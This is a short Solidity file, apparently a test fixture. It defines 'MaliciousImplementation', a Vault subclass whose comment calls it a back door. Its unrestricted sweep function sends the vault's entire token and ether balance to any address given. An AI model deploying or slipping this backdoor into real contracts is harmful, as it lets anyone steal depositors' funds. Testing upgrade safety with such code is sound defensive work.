// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {Vault} from "./Vault.sol";

/// The vault as everyone knows it, with a back door: users notice nothing until the money is gone.
contract MaliciousImplementation is Vault {
    function sweep(address payable to) external {
        token.transfer(to, token.balanceOf(address(this)));
        (bool paid,) = to.call{value: address(this).balance}("");
        require(paid, "payment refused");
    }
}
